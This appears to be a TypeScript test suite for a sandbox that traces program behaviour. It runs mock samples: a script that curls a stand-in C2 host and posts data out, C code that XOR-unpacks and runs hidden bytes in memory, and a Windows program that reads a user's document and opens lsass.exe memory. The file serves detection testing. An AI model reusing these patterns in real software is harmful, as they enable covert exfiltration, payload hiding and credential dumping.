// What real runs leave for whoever looks further: packets with the keys of their TLS, what was printed, code that was unpacked.
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { test } from 'node:test'
import { analyzeTrace } from '@assay/engine'
import { NO_WINDOWS_IMAGE } from '../../src/index.ts'
import { compileForWindows, missingWindowsCompiler } from '../traits/compile.ts'
import { openTestVm } from './test-vm.ts'

const { vm, skip } = await openTestVm()
const noWindows = vm !== null && vm.images.windows === null ? NO_WINDOWS_IMAGE : missingWindowsCompiler('x86_64')

async function traceOf(bytes: Buffer, fileName: string) {
  const outcome = await vm?.run({ bytes, fileName, observeMs: 60_000 })
  assert.ok(outcome?.status === 'complete', JSON.stringify(outcome).slice(0, 300))
  return outcome.trace
}

test('packets stand in a capture, with the keys of the TLS among them', { skip }, async () => {
  const { capture, printed, limits } = await traceOf(
    Buffer.from(
      '#!/bin/bash\necho told\ncurl -s https://c2.example/a.json\ncurl -s http://plain.example/x -d user=1\n',
    ),
    'a.sh',
  )
  const text = Buffer.from(capture ?? []).toString('latin1')
  assert.match(text, /CLIENT_RANDOM [0-9a-f]{64} [0-9a-f]{96}\n/)
  assert.match(text, /POST \/x HTTP\/1\.1\r\nHost: plain\.example/)
  assert.doesNotMatch(text, /GET \/a\.json/)
  assert.match(Buffer.from(printed ?? []).toString(), /^told\n/)
  assert.deepEqual(limits, [])
})

test('what a run asked for and did not find is told', { skip }, async () => {
  const { missed, printed } = await traceOf(
    Buffer.from('#!/bin/bash\nterraform plan\npython3 -c "import nothere"\n'),
    'b.sh',
  )
  assert.deepEqual([...(missed ?? [])].sort(), [
    'the Python module nothere is not there',
    'the command terraform is not there',
  ])
  assert.match(Buffer.from(printed ?? []).toString(), /terraform: command not found/)
})

const UNPACKS = `
#include <string.h>
#include <sys/mman.h>
int main(void) {
  static const unsigned char hidden[] = {0xb8 ^ 90, 42 ^ 90, 90, 90, 90, 0xc3 ^ 90};
  static const char words[] = "2..*\`uu/4*;91?>t?\\";7*6?u=";
  unsigned char *place = mmap(0, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  for (int at = 0; at < 6; at++) place[at] = hidden[at] ^ 90;
  for (int at = 0; words[at] != 0; at++) place[64 + at] = (unsigned char)words[at] ^ 90;
  mprotect(place, 8192, PROT_READ | PROT_EXEC);
  return ((int (*)(void))place)() == 42 ? 0 : 1;
}
`

/** Each of its threads ends by itself, the first one first: none of them ends the program, and there is no call that says so. */
const ENDS_BY_THREADS = `
#include <pthread.h>
#include <sys/syscall.h>
#include <unistd.h>
#define main unpack
${UNPACKS}
#undef main
static void *end(void *wait) {
  if (wait) usleep(300000);
  syscall(SYS_exit, 0);
}
int main(void) {
  pthread_t made;
  for (int at = 0; at < 4; at++) pthread_create(&made, 0, end, at == 3 ? &made : 0);
  unpack();
  syscall(SYS_exit, 0);
}
`

for (const [name, source] of Object.entries({
  'has ended by itself': UNPACKS,
  'ended thread by thread': ENDS_BY_THREADS,
}))
  test(`code that a program unpacked is a file, though the program ${name}`, { skip }, async () => {
    const folder = mkdtempSync(join(tmpdir(), 'assay-unpacks-'))
    try {
      writeFileSync(join(folder, 'a.c'), source)
      execFileSync('gcc', ['-static', '-pthread', '-O1', '-s', '-w', '-o', join(folder, 'a'), join(folder, 'a.c')])
      const { dropped, exit } = await traceOf(readFileSync(join(folder, 'a')), 'unpacks')
      assert.deepEqual(exit, { how: 'exited', code: 0 })
      const [region] = dropped.filter(({ source }) => source === 'memory')
      assert.match(region?.path ?? '', /^memory\/unpacks-0x[0-9a-f]+\.bin$/)
      assert.ok(Buffer.from(region?.bytes ?? []).includes('http://unpacked'))
    } finally {
      rmSync(folder, { recursive: true, force: true })
    }
  })

const READS = `
#include <stdio.h>
#include <windows.h>
#include <tlhelp32.h>
int main(void) {
  char word[16];
  FILE *file = fopen("C:\\\\users\\\\anna\\\\Documents\\\\budget.csv", "rb");
  if (file != NULL) fread(word, 1, sizeof word, file);
  PROCESSENTRY32 one = {sizeof one};
  HANDLE all = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0), logon = 0;
  for (BOOL more = Process32First(all, &one); more; more = Process32Next(all, &one))
    if (lstrcmpiA(one.szExeFile, "lsass.exe") == 0) logon = OpenProcess(PROCESS_VM_READ, FALSE, one.th32ProcessID);
  SIZE_T done = 0;
  ReadProcessMemory(logon, (void *)0x400000, word, sizeof word, &done);
  if (LoadLibraryA("nothere.dll") != 0) return 2;
  return done == sizeof word ? 7 : 1;
}
`

test('under Wine, what the C runtime opens is told, and whose memory is read', {
  skip: skip || noWindows || false,
}, async () => {
  const bytes = compileForWindows('x86_64', { source: READS }, { kind: 'console' })
  const trace = await traceOf(bytes, 'reads.exe')
  assert.deepEqual(trace.exit, { how: 'exited', code: 7 })
  assert.deepEqual(trace.missed, ['the library nothere.dll is not there'])
  assert.ok(trace.files.some(({ op, path }) => op === 'read' && path.endsWith('Documents\\budget.csv')))
  const { findings } = analyzeTrace([trace], { path: 'reads.exe' })
  assert.ok(findings.some(({ id }) => id === 'trace_dumps_credentials'))
})
